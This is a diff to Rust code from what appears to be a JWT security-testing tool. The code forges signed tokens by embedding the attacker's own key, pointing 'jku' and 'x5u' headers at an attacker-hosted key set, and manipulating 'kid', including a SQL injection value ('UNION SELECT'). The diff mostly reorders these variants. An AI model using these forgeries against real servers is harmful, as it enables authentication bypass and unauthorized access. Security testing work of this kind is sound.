@@ -18,8 +18,8 @@ const KNOWN: [(&str, &[u8]); 7] = [
     ("x\" UNION SELECT \"known\" -- ", b"known"),
 ];
 
-/// The attacker's own key in the header, under the sample's key id and under a new one: a server may look the id up
-/// before it believes the key.
+/// The attacker's own key in the header, under a new key id and under the sample's: a server may look the id up before it
+/// believes the key.
 pub(super) fn embedded(sample: &Sample) -> Result<Vec<Forged>, NotApplicable> {
     let (token, payload) = (sample.token()?, as_victim(sample)?);
     let mut forged = Vec::new();
@@ -43,7 +43,7 @@ pub(super) fn elsewhere(sample: &Sample) -> Result<Vec<Forged>, NotApplicable> {
             let Value::Object(mut jwk) = key.jwk() else { continue };
             jwk.extend([("kid".to_owned(), header["kid"].clone()), ("alg".to_owned(), key.alg().into())]);
             let publishes = Some(json!({ "keys": [jwk] }));
-            for name in ["jku", "x5u"] {
+            for name in ["x5u", "jku"] {
                 let credential = key.sign(&with(&header, name, url.as_str().into()), &payload);
                 let variant = format!("{} key at {name}, {kid}", key.alg());
                 forged.push(Forged { publishes: publishes.clone(), ..Forged::new(variant, credential) });
@@ -72,21 +72,21 @@ pub(super) fn path(sample: &Sample) -> Result<Vec<Forged>, NotApplicable> {
     Ok(forged)
 }
 
-/// Fresh keys of the attacker's: for the sample's own algorithm first, then for those that any server may know. An RSA
-/// key takes long to make, so there is one only where RSA is expected.
+/// Fresh keys of the attacker's: for what any server may know, and last for the sample's own algorithm, so that what stays
+/// in the attacker's hands fails for its key alone. An RSA key takes long to make, so there is one only where RSA is
+/// expected.
 fn own_keys(token: &Jws) -> Vec<OwnKey> {
     let own = token.says("alg").unwrap_or_default();
     let others = ["EdDSA", "ES256"].into_iter().filter(|alg| *alg != own);
-    std::iter::once(own).chain(others).filter_map(OwnKey::generate).collect()
+    others.chain([own]).filter_map(OwnKey::generate).collect()
 }
 
-/// The sample's header for a key of the attacker's, under a name of its own and under the server's. The last one stays in
-/// the attacker's hands, so that comes with the algorithm's own words for what is wrong.
+/// The sample's header for a key of the attacker's, under a name of its own and under the server's.
 fn named(token: &Jws) -> [(&'static str, Object); 2] {
     let new = with(&token.header, "kid", OWN_KID.into());
     let mut old = token.header.clone();
     old.entry("kid").or_insert_with(|| "".into());
-    [("the server's kid", old), ("a new kid", new)]
+    [("a new kid", new), ("the server's kid", old)]
 }
 
 fn with(header: &Object, name: &str, value: Value) -> Object {
